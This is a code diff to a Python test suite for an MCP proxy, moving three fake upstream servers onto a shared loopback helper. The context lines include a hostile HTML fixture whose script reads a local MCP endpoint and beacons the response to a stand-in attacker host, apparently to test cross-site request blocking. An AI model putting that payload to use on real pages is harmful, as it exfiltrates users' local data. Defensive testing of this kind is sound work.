@@ -10,8 +10,6 @@ from __future__ import annotations
 import os
 import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from typing import Any
 
 import psutil
 import pytest
@@ -19,6 +17,7 @@ import requests
 
 from tests.conftest import ServiceFactory
 from tests.harness import ServiceHandle, wait_until
+from tests.loopback import LoopbackHTTPServer, QuietHandler
 from tests.mcpserver.control import MCPServerHandle
 
 PAGE = b"<html><script>fetch('/mcp/demo',{method:'POST',body:'{}'}).then(r=>r.text()).then(t=>navigator.sendBeacon('http://evil.example',t))</script></html>"
@@ -32,12 +31,12 @@ NAVIGATION = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec
 IMAGE = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
 
 
-class HostileUpstream:
+class HostileUpstream(LoopbackHTTPServer):
     def __init__(self) -> None:
         self.requests: list[tuple[str, str, dict[str, str]]] = []
         upstream = self
 
-        class Handler(BaseHTTPRequestHandler):
+        class Handler(QuietHandler):
             def _answer(self) -> None:
                 length = int(self.headers.get("Content-Length") or 0)
                 if length:
@@ -51,18 +50,7 @@ class HostileUpstream:
 
             do_GET = do_POST = do_DELETE = _answer
 
-            def log_message(self, *args: Any) -> None:
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/mcp"
-        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-        self.thread.start()
-
-    def close(self) -> None:
-        self.server.shutdown()
-        self.server.server_close()
-        self.thread.join(5)
+        super().__init__(Handler, "/mcp")
 
 
 @pytest.fixture
@@ -132,14 +120,14 @@ BIG_MB = int(os.environ.get("MCPPROXY_BIG_ANSWER_MB", "64"))
 CHUNK = 1024 * 1024
 
 
-class BigUpstream:
+class BigUpstream(LoopbackHTTPServer):
     """An MCP server whose every answer is one JSON-RPC result `size` bytes long, written 1 MiB at a time."""
 
     def __init__(self, size: int) -> None:
         head, tail = b'{"jsonrpc":"2.0","id":1,"result":{"blob":"', b'"}}'
         self.size = size
 
-        class Handler(BaseHTTPRequestHandler):
+        class Handler(QuietHandler):
             protocol_version = "HTTP/1.1"
 
             def do_POST(self) -> None:  # noqa: N802 — http.server's name
@@ -159,19 +147,7 @@ class BigUpstream:
                 except (BrokenPipeError, ConnectionResetError):
                     pass
 
-            def log_message(self, *args: Any) -> None:
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.server.daemon_threads = True
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/mcp"
-        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-        self.thread.start()
-
-    def close(self) -> None:
-        self.server.shutdown()
-        self.server.server_close()
-        self.thread.join(5)
+        super().__init__(Handler, "/mcp")
 
 
 def relay_and_measure(svc: ServiceHandle, name: str) -> tuple[int, int, bytes, requests.Response]:
@@ -222,11 +198,11 @@ def test_a_huge_upstream_answer_passes_through_in_bounded_memory(service_factory
         big.close()
 
 
-class CutOffUpstream:
+class CutOffUpstream(LoopbackHTTPServer):
     """Promises an answer (by Content-Length, or chunked) and hangs up halfway through it."""
 
     def __init__(self) -> None:
-        class Handler(BaseHTTPRequestHandler):
+        class Handler(QuietHandler):
             protocol_version = "HTTP/1.1"
 
             def do_POST(self) -> None:  # noqa: N802 — http.server's name
@@ -242,19 +218,7 @@ class CutOffUpstream:
                 self.wfile.flush()
                 self.close_connection = True
 
-            def log_message(self, *args: Any) -> None:
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.server.daemon_threads = True
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
-        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-        self.thread.start()
-
-    def close(self) -> None:
-        self.server.shutdown()
-        self.server.server_close()
-        self.thread.join(5)
+        super().__init__(Handler)
 
 
 def test_an_answer_cut_off_upstream_is_never_passed_on_as_whole(service_factory: ServiceFactory) -> None:
